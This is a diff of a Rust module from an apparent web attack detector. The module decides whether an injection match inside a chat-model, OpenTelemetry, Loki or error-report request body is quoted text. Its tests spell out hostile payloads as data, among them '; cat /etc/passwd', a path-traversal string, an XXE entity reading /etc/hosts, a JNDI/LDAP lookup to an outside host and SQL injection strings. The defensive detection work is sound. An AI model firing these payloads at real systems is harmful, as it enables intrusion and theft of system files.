@@ -1,8 +1,13 @@
-//! Texts that a body relays by its structure: prompts of a language model, and records of telemetry.
+//! Texts that a request hands on to a language model or to a collector of telemetry.
 //!
 //! What calls a model or reports an error quotes code, markup, queries and the attacks of others, and no part of such a
-//! text becomes part of a page, a statement or a command on its way. The names above the value tell these bodies apart.
-//! Expressions of a template are reported there all the same, for loggers expand them.
+//! text becomes part of a page, a statement or a command on its way. Two things together tell these requests: the path
+//! of a well-known API, which whoever attacks another application cannot choose, and the names above the value, which
+//! are those of that API. The same names in a request to any other path mean nothing: an application of its own may show
+//! or store what it takes from `messages[].content`.
+//!
+//! Expressions of a template are reported there all the same, for loggers expand them; and so is a text that begins as
+//! only injections do.
 
 use super::{Subject, shown};
 use crate::model::{AttackType, Key, Segment, Tag};
@@ -10,6 +15,60 @@ use smallvec::SmallVec;
 
 /// Most steps of a point that are read.
 const MAX_STEPS: usize = 24;
+/// Longest word before the quote that begins an injection, in bytes.
+const MAX_WORD: usize = 24;
+
+/// An API whose requests hand texts on.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Service {
+    /// Chats with a language model.
+    Chat,
+    /// A collector of OpenTelemetry.
+    OpenTelemetry,
+    /// A store of log lines.
+    Loki,
+    /// A store of error reports.
+    Errors,
+}
+
+/// How the paths of each service end.
+const PATHS: &[(Service, &[&[u8]])] = &[
+    (
+        Service::Chat,
+        &[
+            b"/chat/completions",
+            b"/v1/messages",
+            b"/v1/responses",
+            b"/openai/responses",
+            b"/v1/chat",
+            b"/api/chat",
+            b":generateContent",
+            b":streamGenerateContent",
+            b"/converse",
+            b"/converse-stream",
+        ],
+    ),
+    (Service::OpenTelemetry, &[b"/v1/traces", b"/v1/logs", b"/v1/metrics"]),
+    (Service::Loki, &[b"/loki/api/v1/push"]),
+    (Service::Errors, &[b"/envelope", b"/store"]),
+];
+
+impl Service {
+    /// The service that a request to `target` calls. Servers read the path of each in one way only.
+    pub fn of(target: &[u8]) -> Option<Self> {
+        let path = target.split(|b| *b == b'?').next().unwrap_or_default();
+        let path = path.strip_suffix(b"/").unwrap_or(path);
+        let ends = |(_, ends): &&(Self, &[&[u8]])| ends.iter().any(|end| path.ends_with(end));
+        let (service, _) = PATHS.iter().find(ends)?;
+        let plain = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'-' | b'_' | b'.' | b':' | b'@');
+        let steps = path.split(|b| *b == b'/').skip(1);
+        let resolved = path.starts_with(b"/") && steps.into_iter().all(|s| !matches!(s, b"" | b"." | b".."));
+        // A project's number is before the last step: /api/42/store.
+        let of_project =
+            |path: &[u8]| path.rsplit(|b| *b == b'/').nth(1).is_some_and(|id| id.iter().all(u8::is_ascii_digit));
+        (resolved && path.iter().all(plain) && (*service != Self::Errors || of_project(path))).then_some(*service)
+    }
+}
 
 /// A step of the structure of a body.
 #[derive(Clone, Copy)]
@@ -21,32 +80,44 @@ enum Step {
 }
 use Step::{Element, Member};
 
-/// Structures below which texts are relayed.
-const STRUCTURES: &[&[Step]] = &[
-    // Chats with a language model: text, blocks of text and results of tools.
-    &[Member(b"messages"), Element, Member(b"content")],
-    &[Member(b"messages"), Element, Member(b"parts"), Element, Member(b"text")],
-    &[Member(b"contents"), Element, Member(b"parts"), Element, Member(b"text")],
-    &[Member(b"input"), Element, Member(b"content")],
-    // OpenTelemetry.
-    &[Member(b"resourceLogs"), Element],
-    &[Member(b"resourceSpans"), Element],
-    &[Member(b"resourceMetrics"), Element],
-    // Loki.
-    &[Member(b"streams"), Element, Member(b"values"), Element, Element],
-    // Reports of browsers about violations of a content security policy.
-    &[Member(b"csp-report")],
-    &[Element, Member(b"body"), Member(b"sample")],
-    // Error reports.
-    &[Member(b"error"), Member(b"exception")],
-    &[Member(b"exception"), Member(b"values"), Element],
-    &[Member(b"breadcrumbs"), Element],
-    &[Member(b"breadcrumbs"), Member(b"values"), Element],
-    &[Member(b"logentry")],
+/// Structures below which texts are handed on.
+const STRUCTURES: &[(Service, &[&[Step]])] = &[
+    (
+        Service::Chat,
+        &[
+            &[Member(b"messages"), Element, Member(b"content")],
+            &[Member(b"messages"), Element, Member(b"parts"), Element, Member(b"text")],
+            &[Member(b"contents"), Element, Member(b"parts"), Element, Member(b"text")],
+            &[Member(b"input"), Element, Member(b"content")],
+        ],
+    ),
+    (
+        Service::OpenTelemetry,
+        &[
+            &[Member(b"resourceLogs"), Element],
+            &[Member(b"resourceSpans"), Element],
+            &[Member(b"resourceMetrics"), Element],
+        ],
+    ),
+    (Service::Loki, &[&[Member(b"streams"), Element, Member(b"values"), Element, Element]]),
+    (
+        Service::Errors,
+        &[
+            &[Member(b"exception"), Member(b"values"), Element],
+            &[Member(b"breadcrumbs"), Element],
+            &[Member(b"breadcrumbs"), Member(b"values"), Element],
+            &[Member(b"logentry")],
+        ],
+    ),
 ];
 
-/// Whether a match of `attack` at `start` is content of a text that the body relays.
-pub fn is_content(subject: &Subject<'_>, attack: AttackType, start: usize) -> bool {
+/// Script that a browser quotes in a report about a violation of a content security policy, at most 40 characters. Sites
+/// choose the paths of these reports, so they hold at any.
+const REPORTS: &[&[Step]] =
+    &[&[Member(b"csp-report"), Member(b"script-sample")], &[Element, Member(b"body"), Member(b"sample")]];
+
+/// Whether a match of `attack` at `start` is content of a text that a request to `service` hands on.
+pub fn is_content(subject: &Subject<'_>, service: Option<Service>, attack: AttackType, start: usize) -> bool {
     let class = matches!(
         attack,
         AttackType::Sqli
@@ -61,11 +132,14 @@ pub fn is_content(subject: &Subject<'_>, attack: AttackType, start: usize) -> bo
             | AttackType::Redir
             | AttackType::Crlf
     );
-    class && is_relayed(subject) && !shown::is_in_expression(subject.bytes, start)
+    class
+        && is_handed_on(subject, service)
+        && !shown::is_in_expression(subject.bytes, start)
+        && !begins_as_injection(subject.bytes, attack)
 }
 
-/// Whether the value is below one of [`STRUCTURES`] of a JSON body, and no name.
-fn is_relayed(subject: &Subject<'_>) -> bool {
+/// Whether the value is below one of [`STRUCTURES`] of `service` or one of [`REPORTS`], in a JSON body, and no name.
+fn is_handed_on(subject: &Subject<'_>, service: Option<Service>) -> bool {
     let steps: SmallVec<[Segment<'_>; MAX_STEPS]> = subject.ancestors().take(MAX_STEPS + 1).collect();
     if steps.len() > MAX_STEPS || steps.first().is_some_and(|last| last.tag == Tag::HashName) {
         return false;
@@ -78,7 +152,29 @@ fn is_relayed(subject: &Subject<'_>) -> bool {
         Member(name) => step.tag == Tag::Hash && matches!(step.key, Key::Name(other) if other == *name),
         Element => step.tag == Tag::Array,
     };
-    STRUCTURES.iter().any(|structure| steps.len() >= structure.len() && structure.iter().zip(steps.clone()).all(fits))
+    let below = |structure: &&[Step]| steps.len() >= structure.len() && structure.iter().zip(steps.clone()).all(fits);
+    let mut of_service = STRUCTURES.iter().filter(|(of, _)| Some(*of) == service).flat_map(|(_, all)| all.iter());
+    of_service.any(below) || REPORTS.iter().any(|report| report.len() == steps.len() && below(report))
+}
+
+/// Whether a text begins as only injections do: by what ends a quote that it did not open or a command that it did not
+/// begin. A path that climbs counts if nothing else is there, a document with entities if nothing is before it.
+fn begins_as_injection(text: &[u8], attack: AttackType) -> bool {
+    let text = text.trim_ascii();
+    match attack {
+        AttackType::Ptrav => !text.iter().any(u8::is_ascii_whitespace),
+        AttackType::Xxe => text.starts_with(b"<"),
+        _ => {
+            let word = text.iter().take(MAX_WORD).take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
+            match &text[word..] {
+                [b';' | b'|' | b'&' | b')', ..] => word == 0,
+                [b'\'' | b'"', next, ..] => {
+                    matches!(next, b' ' | b')' | b';' | b'>' | b'|' | b'&' | b'-' | b'+' | b'/' | b'#' | b'}')
+                }
+                _ => false,
+            }
+        }
+    }
 }
 
 #[cfg(test)]
@@ -86,8 +182,9 @@ mod tests {
     use super::*;
     use crate::model::{PointId, PointTree, Value, Zone};
 
-    /// Whether a match of `attack` at the start of `text` is content, below members (names) and elements (`[]`).
-    fn content(path: &[&'static str], attack: AttackType, text: &str) -> bool {
+    /// Whether a match of `attack` at the start of `text` is content, in a request to `target`, below members (names) and
+    /// elements (`[]`).
+    fn content(target: &str, path: &[&'static str], attack: AttackType, text: &str) -> bool {
         let mut tree = PointTree::new();
         let post = tree.child(PointId::ROOT, Segment::plain(Tag::Post));
         let mut point = tree.child(post, Segment::plain(Tag::JsonDoc));
@@ -99,41 +196,98 @@ mod tests {
             };
         }
         let value = Value::new(point, text.as_bytes(), Zone::BODY);
-        is_content(&Subject::new(text.as_bytes(), value.classes, &value, &tree), attack, 0)
+        let subject = Subject::new(text.as_bytes(), value.classes, &value, &tree);
+        is_content(&subject, Service::of(target.as_bytes()), attack, 0)
+    }
+
+    const CHAT: &str = "/v1/chat/completions";
+    const MARKUP: &str = "<b onclick=go()>";
+
+    #[test]
+    fn requests_to_well_known_services_are_known() {
+        for (target, path) in [
+            (CHAT, &["messages", "[]", "content"][..]),
+            ("/openai/deployments/a-4.1/chat/completions?api-version=1", &["messages", "[]", "content", "[]", "text"]),
+            ("/v1beta/models/a-2.5:generateContent", &["contents", "[]", "parts", "[]", "text"]),
+            ("/api/chat", &["messages", "[]", "parts", "[]", "text"]),
+            ("/v1/responses", &["input", "[]", "content", "[]", "text"]),
+            ("/v1/traces", &["resourceSpans", "[]", "scopeSpans", "[]", "spans", "[]", "status"]),
+            ("/api/42/envelope/?sentry_key=1", &["exception", "values", "[]", "value"]),
+            ("/api/42/store/", &["breadcrumbs", "[]", "message"]),
+            ("/loki/api/v1/push", &["streams", "[]", "values", "[]", "[]"]),
+            ("/any/path", &["csp-report", "script-sample"]),
+        ] {
+            assert!(content(target, path, AttackType::Xss, MARKUP), "{target} {path:?}");
+        }
     }
 
     #[test]
-    fn structures_of_chats_and_telemetry_are_known() {
-        for path in [
-            &["messages", "[]", "content"][..],
-            &["messages", "[]", "content", "[]", "text"],
-            &["contents", "[]", "parts", "[]", "text"],
-            &["resourceSpans", "[]", "scopeSpans", "[]", "spans", "[]", "status"],
-            &["exception", "values", "[]", "value"],
-            &["breadcrumbs", "[]", "message"],
-            &["input", "[]", "content", "[]", "text"],
-            &["streams", "[]", "values", "[]", "[]"],
-            &["csp-report", "script-sample"],
+    fn names_alone_do_not_make_a_text_one_that_is_handed_on() {
+        for (target, path) in [
+            (CHAT, &["content"][..]),
+            (CHAT, &["data", "messages", "[]", "content"]),
+            (CHAT, &["messages", "content"]),
+            (CHAT, &["messages", "[]", "title"]),
+            (CHAT, &["messages", "[]", "content", "name"]),
+            (CHAT, &["comment"]),
+            (CHAT, &["resourceLogs", "[]", "body"]),
+            ("/sms/send", &["messages", "[]", "content"]),
+            ("/api/42/store/", &["exception"]),
+            ("/shop/store", &["breadcrumbs", "[]", "message"]),
+            ("/any/path", &["csp-report", "document-uri"]),
+            ("/any/path", &["csp-report", "script-sample", "[]"]),
         ] {
-            assert!(content(path, AttackType::Xss, "<b onclick=go()>"), "{path:?}");
+            assert!(!content(target, path, AttackType::Xss, MARKUP), "{target} {path:?}");
         }
-        for path in [
-            &["content"][..],
-            &["data", "messages", "[]", "content"],
-            &["messages", "content"],
-            &["messages", "[]", "title"],
-            &["messages", "[]", "content", "name"],
-            &["exception"],
+    }
+
+    #[test]
+    fn a_path_that_could_lead_elsewhere_is_no_service() {
+        for target in [
+            "/sms?to=/v1/chat/completions",
+            "/sms;/v1/chat/completions",
+            "/sms%2f..%3f/chat/completions",
+            "/sms#/chat/completions",
+            "/sms//chat/completions",
+            "/x/../sms/./chat/completions",
+            "http://a.example/v1/chat/completions",
+            "chat/completions",
+            "",
         ] {
-            assert!(!content(path, AttackType::Xss, "<b onclick=go()>"), "{path:?}");
+            assert_eq!(Service::of(target.as_bytes()), None, "{target}");
+        }
+    }
+
+    #[test]
+    fn what_begins_as_an_injection_counts_everywhere() {
+        let path = &["messages", "[]", "content"];
+        for (attack, text) in [
+            (AttackType::Sqli, "' or 1=1 -- "),
+            (AttackType::Sqli, "admin'-- "),
+            (AttackType::Xss, "x\"><svg onload=go()>"),
+            (AttackType::Rce, "; cat /etc/passwd"),
+            (AttackType::Ptrav, "../../../etc/passwd"),
+            (AttackType::Xxe, "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>"),
+        ] {
+            assert!(!content(CHAT, path, attack, text), "{text}");
+        }
+        for (attack, text) in [
+            (AttackType::Sqli, "Why is ' or 1=1 -- dangerous?"),
+            (AttackType::Sqli, "O'Brien wrote union select 1, 2 from dual"),
+            (AttackType::Xss, "<div onclick=go()> to React, please"),
+            (AttackType::Rce, "Explain sleep 5; cat /etc/passwd"),
+            (AttackType::Ptrav, "Is ../../../etc/passwd safe?"),
+            (AttackType::Xxe, "What is <!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>"),
+        ] {
+            assert!(content(CHAT, path, attack, text), "{text}");
         }
     }
 
     #[test]
     fn look_ups_of_loggers_and_templates_count_everywhere() {
         let path = &["resourceLogs", "[]", "body"];
-        assert!(!content(path, AttackType::Rce, "${jndi:ldap://a.example/x}"));
-        assert!(!content(path, AttackType::Ssti, "{{7*7}}"));
-        assert!(content(path, AttackType::Rce, "sh -c id"));
+        assert!(!content("/v1/logs", path, AttackType::Rce, "${jndi:ldap://a.example/x}"));
+        assert!(!content("/v1/logs", path, AttackType::Ssti, "{{7*7}}"));
+        assert!(content("/v1/logs", path, AttackType::Rce, "sh -c id"));
     }
 }
